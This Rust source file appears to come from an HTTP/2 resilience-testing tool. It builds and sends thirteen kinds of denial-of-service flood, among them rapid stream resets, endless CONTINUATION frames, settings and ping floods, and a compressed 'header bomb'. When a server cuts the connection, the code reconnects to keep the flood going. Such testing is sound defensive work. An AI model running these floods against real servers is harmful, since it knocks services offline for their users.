//! Attacks by frames that cost the server more than their sender.
//!
//! A server may cut such a connection. The attacker opens a new one, until it has sent all its frames, or has lost its
//! maximum of connections.

use std::time::Duration;

use tokio::time::timeout;

use super::connection::Connection;
use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, FRAME_BYTES_MAX, HEADERS, NEWEST_REMEMBERED, PING,
    PRIORITY, SETTINGS, UNKNOWN, call_headers, frame, remembered_header, reset, window_update,
};
use super::waiting::{GET_CAPACITY, begin};
use super::{Outcome, Target};

/// Frame that a flood repeats.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// Calls that the client cancels at once.
    RapidResets,
    /// Calls that the server resets, because their window grows by 0.
    ResetsByZeroWindow,
    /// Calls that the server resets, because their window grows beyond the maximum.
    ResetsByOverflow,
    /// Calls that the server resets, because they continue after their end.
    ResetsByDataAfterEnd,
    /// Pieces of a header block that never ends.
    Continuation,
    /// Pieces of a header block that never ends, without a byte in them.
    EmptyContinuation,
    /// Settings, each of which needs an acknowledgement.
    Settings,
    /// Pings, each of which needs an answer.
    Ping,
    /// Priorities, which servers ignore.
    Priority,
    /// Windows grown by one byte.
    WindowUpdate,
    /// Frames of an unknown kind.
    Unknown,
    /// Data without a byte in it.
    EmptyData,
    /// Header blocks of some kilobytes that unfold to fifty megabytes.
    HeaderBomb,
}

impl Flood {
    /// All floods.
    pub const ALL: [Self; 13] = [
        Self::RapidResets,
        Self::ResetsByZeroWindow,
        Self::ResetsByOverflow,
        Self::ResetsByDataAfterEnd,
        Self::Continuation,
        Self::EmptyContinuation,
        Self::Settings,
        Self::Ping,
        Self::Priority,
        Self::WindowUpdate,
        Self::Unknown,
        Self::EmptyData,
        Self::HeaderBomb,
    ];

    /// Starts a connection.
    fn begin(self, connection: &mut Connection, out: &mut Vec<u8>) {
        match self {
            Self::Continuation | Self::EmptyContinuation => {
                let stream = connection.next_stream();
                frame(out, HEADERS, 0, stream, &call_headers(GET_CAPACITY));
            }
            Self::EmptyData => {
                let stream = connection.next_stream();
                begin(out, stream, false);
            }
            _ => {}
        }
    }

    /// Appends the frame once.
    fn once(self, connection: &mut Connection, out: &mut Vec<u8>) {
        const ENORMOUS: u32 = (1 << 31) - 1;
        // The first stream of the connection, if it began one.
        const BEGUN: u32 = 1;
        match self {
            Self::RapidResets => {
                let stream = connection.next_stream();
                begin(out, stream, false);
                reset(out, stream);
            }
            Self::ResetsByZeroWindow => {
                let stream = connection.next_stream();
                begin(out, stream, false);
                window_update(out, stream, 0);
            }
            Self::ResetsByOverflow => {
                let stream = connection.next_stream();
                begin(out, stream, false);
                window_update(out, stream, ENORMOUS);
            }
            Self::ResetsByDataAfterEnd => {
                let stream = connection.next_stream();
                begin(out, stream, true);
                frame(out, DATA, 0, stream, b"more");
            }
            Self::Continuation => frame(out, CONTINUATION, 0, BEGUN, &ONE_HEADER),
            Self::EmptyContinuation => frame(out, CONTINUATION, 0, BEGUN, &[]),
            Self::Settings => frame(out, SETTINGS, 0, 0, &[]),
            Self::Ping => frame(out, PING, 0, 0, b"flooding"),
            Self::Priority => frame(out, PRIORITY, 0, 1_001, &[0, 0, 0, 0, 7]),
            Self::WindowUpdate => window_update(out, 0, 1),
            Self::Unknown => frame(out, UNKNOWN, 0, 0, b"unknown kind"),
            Self::EmptyData => frame(out, DATA, 0, BEGUN, &[]),
            Self::HeaderBomb => {
                let stream = connection.next_stream();
                let mut block = call_headers(GET_CAPACITY);
                remembered_header(&mut block, "x-bomb", &[b'a'; 4_000]);
                block.resize(FRAME_BYTES_MAX, NEWEST_REMEMBERED);
                let flags = END_HEADERS | END_STREAM;
                frame(out, HEADERS, flags, stream, &block);
            }
        }
    }
}

/// `a: b`, as a literal.
const ONE_HEADER: [u8; 5] = [0, 1, b'a', 1, b'b'];

/// Size of a flood.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Amount {
    /// Number of repetitions.
    pub times: u64,
    /// Largest number of connections, one after the other.
    pub connections_max: u64,
}

/// Time for the server to end a connection after everything was sent.
const JUDGED_WITHIN: Duration = Duration::from_secs(2);

/// Sends a flood.
pub async fn flood(target: Target, what: Flood, amount: Amount) -> Outcome {
    const BATCH: u64 = 100;
    let mut outcome = Outcome::default();
    while outcome.done < amount.times
        && outcome.opened + outcome.not_opened < amount.connections_max
    {
        let opened = Connection::greet(target.from, target.grpc, &[]).await;
        let Ok(mut connection) = opened else {
            outcome.not_opened += 1;
            continue;
        };
        outcome.opened += 1;
        let mut out = Vec::new();
        what.begin(&mut connection, &mut out);
        while outcome.done < amount.times && !connection.is_used_up() {
            for _ in 0..BATCH {
                what.once(&mut connection, &mut out);
            }
            let sent = connection.send(&out).await;
            out.clear();
            if sent.is_err() {
                break;
            }
            outcome.done += BATCH;
        }
        // The server may still have much to read. It ends the connection in time, or not.
        let _ = timeout(JUDGED_WITHIN, connection.until_cut()).await;
        outcome.add_connection(&connection);
    }
    outcome
}
